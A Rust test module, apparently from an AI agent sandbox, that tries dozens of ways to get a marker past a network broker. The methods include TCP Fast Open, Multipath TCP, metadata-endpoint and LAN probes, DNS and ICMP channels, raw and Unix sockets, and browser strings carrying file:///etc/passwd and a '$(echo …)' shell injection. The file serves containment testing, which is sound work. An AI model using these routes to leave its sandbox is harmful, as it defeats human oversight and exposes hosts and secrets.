//! Ways out past the broker. A connection that the broker itself accepts proves nothing, so these attacks only send
//! their mark; whether it arrived is for the host to say.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixStream};
use std::path::Path;
use std::time::Duration;

use super::{Act, Outcome, call, why};
use crate::host::{ABSTRACT, HOST_PORT, LAN, LINK_LOCAL, METADATA, OTHER_PORT, PUBLIC, PUBLIC_V6};

pub(crate) const ATTACKS: &[(&str, Act)] = &[
    ("tcp-other-port", |mark| tcp((PUBLIC, OTHER_PORT).into(), mark)),
    ("tcp-address-literal", |mark| tcp((PUBLIC, 443).into(), mark)),
    ("tcp-ipv6", |mark| tcp((PUBLIC_V6, OTHER_PORT).into(), mark)),
    ("tcp-ipv6-web", |mark| tcp((PUBLIC_V6, 443).into(), mark)),
    ("tcp-fast-open", |mark| fast_open(PUBLIC, OTHER_PORT, mark)),
    ("tcp-multipath", |mark| multipath(PUBLIC, OTHER_PORT, mark)),
    ("tcp-port-of-the-broker", port_of_the_broker),
    ("tcp-link-local", |mark| tcp(SocketAddrV6::new(LINK_LOCAL, OTHER_PORT, 0, 1).into(), mark)),
    ("host-loopback", |mark| tcp((Ipv4Addr::LOCALHOST, HOST_PORT).into(), mark)),
    ("host-loopback-ipv6", |mark| tcp((Ipv6Addr::LOCALHOST, HOST_PORT).into(), mark)),
    ("host-loopback-connect", |mark| connect(&format!("127.0.0.1:{HOST_PORT}"), mark)),
    ("host-loopback-connect-name", |mark| connect(&format!("localhost:{HOST_PORT}"), mark)),
    ("host-loopback-connect-mapped", |mark| connect(&format!("[::ffff:127.0.0.1]:{HOST_PORT}"), mark)),
    ("lan-web", |mark| http(LAN, "10.9.8.7", mark)),
    ("lan-connect", |mark| connect("10.9.8.7:80", mark)),
    ("lan-by-name", |mark| connect("service.internal.example:80", mark)),
    ("metadata-web", |mark| http(METADATA, "169.254.169.254", mark)),
    ("metadata-connect", |mark| connect("169.254.169.254:80", mark)),
    ("udp-other-port", |mark| udp((PUBLIC, OTHER_PORT).into(), mark.as_bytes())),
    ("udp-quic", |mark| udp((PUBLIC, 443).into(), mark.as_bytes())),
    ("udp-ipv6", |mark| udp((PUBLIC_V6, OTHER_PORT).into(), mark.as_bytes())),
    ("udp-to-port-53", |mark| udp((PUBLIC, 53).into(), mark.as_bytes())),
    ("dns-denied-name", |mark| udp((PUBLIC, 53).into(), &question(mark))),
    ("dns-denied-name-by-libc", by_libc),
    ("icmp-datagram", |mark| echo_request(libc::SOCK_DGRAM, mark)),
    ("icmp-raw", |mark| echo_request(libc::SOCK_RAW, mark)),
    ("packet-socket", packet_socket),
    ("vsock", |_| family(libc::AF_VSOCK)),
    ("bluetooth", |_| family(libc::AF_BLUETOOTH)),
    ("netlink-audit", |_| netlink(libc::NETLINK_AUDIT)),
    ("host-network-by-stdin", host_network_by_stdin),
    ("browser-file", |mark| browser(&format!("file:///etc/passwd#{mark}"))),
    ("browser-script", |mark| browser(&format!("javascript:alert('{mark}')"))),
    ("browser-option", |mark| browser(&format!("--profile={mark}"))),
    ("browser-shell", |mark| browser(&format!("https://a.example/$(echo {mark} >&2)`{mark}`\n{mark}"))),
    ("browser-unlisted-host", |mark| browser(&format!("https://unlisted.example/?{mark}"))),
    ("browser-host-loopback", |mark| browser(&format!("http://localhost:{HOST_PORT}/{mark}"))),
    ("unix-abstract", unix_abstract),
    ("unix-in-tmp", |mark| unix(Path::new("/tmp/.escape-host.sock"), mark)),
    ("unix-in-run", |mark| unix(Path::new("/run/escape-host.sock"), mark)),
    ("unix-outside", |mark| unix(&Path::new(&std::env::var("HOST_SOCKETS").unwrap()).join("outside.sock"), mark)),
    ("unix-in-home", |mark| unix(&Path::new(&std::env::var("HOME").unwrap()).join("agent.sock"), mark)),
    ("unix-in-project", |mark| unix(Path::new("agent.sock"), mark)),
    ("unix-in-cache", |mark| unix(&Path::new(&std::env::var("HOME").unwrap()).join(".cache/agent.sock"), mark)),
];

const PATIENCE: Duration = Duration::from_secs(10);

fn tcp(address: SocketAddr, mark: &str) -> Outcome {
    let stream = TcpStream::connect_timeout(&address, PATIENCE).map_err(why("connect"))?;
    say(stream, &format!("{mark}\n"))
}

fn internet(address: Ipv4Addr, port: u16) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: u16::try_from(libc::AF_INET).unwrap(),
        sin_port: port.to_be(),
        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(address.octets()) },
        sin_zero: [0; 8],
    }
}

fn stream_socket(protocol: i32) -> Result<OwnedFd, String> {
    let arguments = [libc::AF_INET, libc::SOCK_STREAM, protocol].map(|number| usize::try_from(number).unwrap());
    let socket = call(libc::SYS_socket, &arguments).map_err(why("socket"))?;
    // SAFETY: the kernel has just made this descriptor for us; nothing else owns it.
    Ok(unsafe { OwnedFd::from_raw_fd(i32::try_from(socket).unwrap()) })
}

/// Connects by sending (RFC 7413), which no check of connect(2) sees.
fn fast_open(address: Ipv4Addr, port: u16, mark: &str) -> Outcome {
    let (socket, address, text) = (stream_socket(0)?, internet(address, port), format!("{mark}\n"));
    let (number, flags) = (usize::try_from(socket.as_raw_fd()).unwrap(), usize::try_from(libc::MSG_FASTOPEN).unwrap());
    let arguments =
        [number, text.as_ptr().addr(), text.len(), flags, (&raw const address).addr(), size_of_val(&address)];
    call(libc::SYS_sendto, &arguments).map_err(why("sendto"))?;
    say(TcpStream::from(socket), "\n")
}

/// Multipath TCP (RFC 8684), which is no TCP to a check of TCP.
fn multipath(address: Ipv4Addr, port: u16, mark: &str) -> Outcome {
    let (socket, address) = (stream_socket(libc::IPPROTO_MPTCP)?, internet(address, port));
    let number = usize::try_from(socket.as_raw_fd()).unwrap();
    call(libc::SYS_connect, &[number, (&raw const address).addr(), size_of_val(&address)]).map_err(why("connect"))?;
    say(TcpStream::from(socket), &format!("{mark}\n"))
}

/// Another host, on the port on which the broker listens: whether the kernel goes and asks it.
fn port_of_the_broker(_: &str) -> Outcome {
    let proxy = std::env::var("HTTPS_PROXY").map_err(|error| error.to_string())?;
    let port = proxy.rsplit(':').next().and_then(|port| port.trim_end_matches('/').parse().ok()).ok_or("no port")?;
    match TcpStream::connect_timeout(&SocketAddr::from((LAN, port)), PATIENCE) {
        Err(error) if error.kind() == std::io::ErrorKind::ConnectionRefused => Ok("the other host was asked".into()),
        Err(error) => Err(format!("connect: {error}")),
        Ok(_) => Ok("connected".into()),
    }
}

/// Sends a text and gives what came back.
fn say(mut stream: impl Read + Write, text: &str) -> Outcome {
    stream.write_all(text.as_bytes()).map_err(why("write"))?;
    let mut answer = [0; 512];
    let length = stream.read(&mut answer).map_err(why("read"))?;
    Ok(String::from_utf8_lossy(&answer[..length]).into_owned())
}

fn http(address: Ipv4Addr, host: &str, mark: &str) -> Outcome {
    let stream = TcpStream::connect_timeout(&(address, 80).into(), PATIENCE).map_err(why("connect"))?;
    say(stream, &format!("GET /{mark} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"))
}

/// Through the explicit proxy where there is one; outside a run, directly.
fn connect(target: &str, mark: &str) -> Outcome {
    let Ok(proxy) = std::env::var("HTTPS_PROXY") else {
        let (host, port) = target.rsplit_once(':').unwrap();
        let address = (host.trim_matches(['[', ']']), port.parse::<u16>().unwrap());
        return say(TcpStream::connect(address).map_err(why("connect"))?, &format!("{mark}\n"));
    };
    let address = proxy.rsplit('@').next().unwrap().trim_end_matches('/');
    let mut stream = TcpStream::connect(address).map_err(why("connect to the proxy"))?;
    let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    stream.write_all(request.as_bytes()).map_err(why("write"))?;
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).map_err(why("read"))? == 1 {
        head.extend_from_slice(&byte);
    }
    if !head.starts_with(b"HTTP/1.1 200") {
        return Err(String::from_utf8_lossy(&head).into_owned());
    }
    say(stream, &format!("GET /{mark} HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n"))
}

fn udp(address: SocketAddr, bytes: &[u8]) -> Outcome {
    let local: IpAddr = if address.is_ipv4() { Ipv4Addr::UNSPECIFIED.into() } else { Ipv6Addr::UNSPECIFIED.into() };
    let socket = UdpSocket::bind((local, 0)).map_err(why("bind"))?;
    socket.send_to(bytes, address).map_err(why("send"))?;
    // Long enough for a host that answers; a broker that swallows the datagram answers never.
    socket.set_read_timeout(Some(Duration::from_secs(1))).map_err(why("timeout"))?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer).map_err(why("receive"))?;
    Ok(format!("{length} bytes came back"))
}

/// A question for the address of a name below a domain that nobody allowed.
fn question(mark: &str) -> Vec<u8> {
    let mut query = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [mark, "denied", "example"] {
        query.push(u8::try_from(label.len()).unwrap());
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    query
}

fn by_libc(mark: &str) -> Outcome {
    use std::net::ToSocketAddrs;
    let name = format!("{mark}.denied.example:443");
    let found = name.to_socket_addrs().map_err(why("resolve"))?.next();
    found.map(|address| address.to_string()).ok_or_else(|| "no address".into())
}

/// An echo request (RFC 792) with the mark as its data.
fn echo_request(kind: i32, mark: &str) -> Outcome {
    let socket = socket(libc::AF_INET, kind, libc::IPPROTO_ICMP)?;
    let mut packet = vec![8, 0, 0, 0, 0, 1, 0, 1];
    packet.extend_from_slice(mark.as_bytes());
    packet.resize(packet.len().next_multiple_of(2), 0);
    let sum: u32 = packet.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
    let sum = !u16::try_from((sum & 0xffff) + (sum >> 16)).unwrap();
    packet[2..4].copy_from_slice(&sum.to_be_bytes());
    let address = libc::sockaddr_in {
        sin_family: u16::try_from(libc::AF_INET).unwrap(),
        sin_port: 0,
        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(PUBLIC.octets()) },
        sin_zero: [0; 8],
    };
    let (at, size) = ((&raw const address).addr(), size_of_val(&address));
    let arguments = [socket, packet.as_ptr().addr(), packet.len(), 0, at, size];
    call(libc::SYS_sendto, &arguments).map_err(why("sendto")).map(|sent| format!("{sent} bytes sent"))
}

fn socket(family: i32, kind: i32, protocol: i32) -> Result<usize, String> {
    let arguments = [family, kind, protocol].map(|number| usize::try_from(number).unwrap());
    let descriptor = call(libc::SYS_socket, &arguments).map_err(why("socket"))?;
    Ok(usize::try_from(descriptor).unwrap())
}

fn family(family: i32) -> Outcome {
    socket(family, libc::SOCK_STREAM, 0).map(|_| format!("a socket of family {family}"))
}

fn netlink(protocol: i32) -> Outcome {
    socket(libc::AF_NETLINK, libc::SOCK_RAW, protocol).map(|_| format!("netlink of protocol {protocol}"))
}

fn packet_socket(_: &str) -> Outcome {
    socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300).map(|_| "every packet of the namespace".into())
}

fn unix(path: &Path, mark: &str) -> Outcome {
    say(UnixStream::connect(path).map_err(why("connect"))?, &format!("{mark}\n"))
}

fn unix_abstract(mark: &str) -> Outcome {
    let address = UnixAddress::from_abstract_name(ABSTRACT).map_err(why("address"))?;
    say(UnixStream::connect_addr(&address).map_err(why("connect"))?, &format!("{mark}\n"))
}

/// Standard input is a socket of the network that the run was started in: connected anew, it reaches anything there.
fn host_network_by_stdin(_: &str) -> Outcome {
    let address = libc::sockaddr_in {
        sin_family: u16::try_from(libc::AF_INET).unwrap(),
        sin_port: 48_123_u16.to_be(),
        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes([127, 0, 0, 1]) },
        sin_zero: [0; 8],
    };
    call(libc::SYS_connect, &[0, (&raw const address).addr(), size_of_val(&address)]).map_err(why("connect"))?;
    Ok("stdin is connected to another port of the host".into())
}

/// Has the user's browser open a text: inside a run over the bridge, past the program that would check it; outside, by
/// the program that the user's own environment names.
fn browser(text: &str) -> Outcome {
    let Ok(mut stream) = UnixStream::connect("/run/agentsecrets/browser.sock") else {
        let browser = std::env::var_os("BROWSER").ok_or("there is no browser")?;
        let status = std::process::Command::new(browser).arg(text).status().map_err(why("start"))?;
        return Ok(format!("the browser was started: {status}"));
    };
    stream.write_all(text.as_bytes()).map_err(why("write"))?;
    stream.shutdown(std::net::Shutdown::Write).map_err(why("shutdown"))?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer).map_err(why("read"))?;
    if answer == "opened" { Ok(answer) } else { Err(answer) }
}
